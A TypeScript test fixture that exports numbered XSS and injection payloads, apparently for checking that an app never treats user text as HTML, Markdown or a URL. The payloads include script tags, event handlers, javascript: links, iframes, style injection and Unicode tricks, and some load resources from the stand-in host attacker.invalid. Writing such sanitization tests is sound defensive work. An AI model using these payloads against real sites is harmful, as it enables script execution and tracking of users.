/**
 * Text that would run code, load something or mislead the reader if the app ever treated it as
 * HTML, Markdown links or a URL. Each payload, if it ran, would leave its number behind: in
 * `window.__pwned`, in an alert, or in a request to attacker.invalid/<number>.
 */
export const ATTACKER_HOST = 'attacker.invalid';

const raw: ((n: number) => string)[] = [
  // Script and event-handler HTML
  (n) => `<script>window.__pwned=${n}</script>`,
  (n) => `<img src=x onerror="window.__pwned=${n}">`,
  (n) => `<svg onload="window.__pwned=${n}"></svg>`,
  (n) => `<svg><animate onbegin="window.__pwned=${n}" attributeName="x" dur="1s"/></svg>`,
  (n) => `<body onload="window.__pwned=${n}">`,
  (n) => `<details open ontoggle="window.__pwned=${n}"><summary>x</summary></details>`,
  (n) => `<input autofocus onfocus="window.__pwned=${n}">`,
  (n) => `<video><source onerror="window.__pwned=${n}"></video>`,
  (n) => `"><script>alert(${n})</script>`,
  (n) => `'-alert(${n})-'`,
  // Frames, objects and document-level elements
  (n) => `<iframe src="javascript:parent.__pwned=${n}"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.__pwned=${n}</script>"></iframe>`,
  (n) => `<object data="javascript:window.__pwned=${n}"></object>`,
  (n) => `<embed src="https://${ATTACKER_HOST}/${n}.swf">`,
  (n) => `<base href="https://${ATTACKER_HOST}/${n}/">`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=${n}">`,
  (n) => `<form action="javascript:window.__pwned=${n}"><button>Send</button></form>`,
  // Style injection
  (n) => `<style>body{background:url(https://${ATTACKER_HOST}/${n}.png)}</style>`,
  (n) => `<div style="background-image:url(https://${ATTACKER_HOST}/${n}.png)">styled</div>`,
  (n) => `<link rel="stylesheet" href="https://${ATTACKER_HOST}/${n}.css">`,
  // Markdown links, images and autolinks
  (n) => `[click me](javascript:window.__pwned=${n})`,
  (n) => `![tracker](https://${ATTACKER_HOST}/${n}.png)`,
  (n) => `[x](data:text/html,<script>alert(${n})</script>)`,
  (n) => `<https://${ATTACKER_HOST}/${n}>`,
  (n) => `[ref][evil]\n\n[evil]: javascript:window.__pwned=${n}`,
  (n) => `**<img src=x onerror=alert(${n})>** and \`<script>alert(${n})</script>\``,
  (n) => `[a](javascript&#58;window.__pwned=${n}) [b](  JaVaScRiPt:window.__pwned=${n})`,
  // Unicode tricks
  (n) => `\u202Egnp.exe\u202C <img src=x onerror=window.__pwned=${n}> right-to-left override`,
  (n) => `java\u200Bscript:window.__pwned=${n} and ＜script＞window.__pwned=${n}＜/script＞`,
  (n) => `<scr\u0000ipt>window.__pwned=${n}</scr\u0000ipt> z\u0301\u0301\u0301algo`,
  (n) => `\uFEFF<img src=x onerror=window.__pwned=${n}>\uD83D lone surrogate`,
  // Template and prototype tricks
  (n) => `{{constructor.constructor('window.__pwned=${n}')()}} \${window.__pwned=${n}}`,
  (n) => `__proto__ <math><a xlink:href="javascript:window.__pwned=${n}">m</a></math>`,
];

export interface Payload {
  id: number;
  text: string;
}

/** Numbered from 1 so that 0 is never a marker. */
export const payloads: Payload[] = raw.map((make, index) => ({
  id: index + 1,
  text: make(index + 1),
}));
